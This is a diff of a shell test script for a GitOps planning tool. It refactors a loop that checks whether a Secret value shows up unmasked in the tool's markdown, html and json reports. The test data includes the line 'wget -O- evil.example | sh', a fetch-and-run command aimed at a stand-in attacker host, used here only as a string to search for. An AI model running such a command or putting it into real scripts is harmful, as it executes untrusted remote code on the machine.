@@ -237,8 +237,8 @@ sed 's/Secret/ConfigMap/; s/stringData/data/' "$repo/clusters/prod/secret.yaml" 
 commit_all "$repo" "a Secret"
 exits "a Secret whose value is a line of a script" 0 "$program" plan -v --repo "$repo" --report "markdown=$scratch/looks.md" \
 	--report "html=$scratch/looks.html" --report "json=$scratch/looks.json"
-for report in looks.md looks.html looks.json; do
-	ok "the line is not masked in $report" grep -qF '+            wget -O- evil.example | sh' "$scratch/$report"
+for report in md html json; do
+	ok "the line is not masked in $report" grep -qF '+            wget -O- evil.example | sh' "$scratch/looks.$report"
 done
 repo=$(small "looks-sealed")
 sed -i 's/^  settings:/  settings:\n    osc: sealed/' "$repo/clusters/prod/osm-gen.yaml"
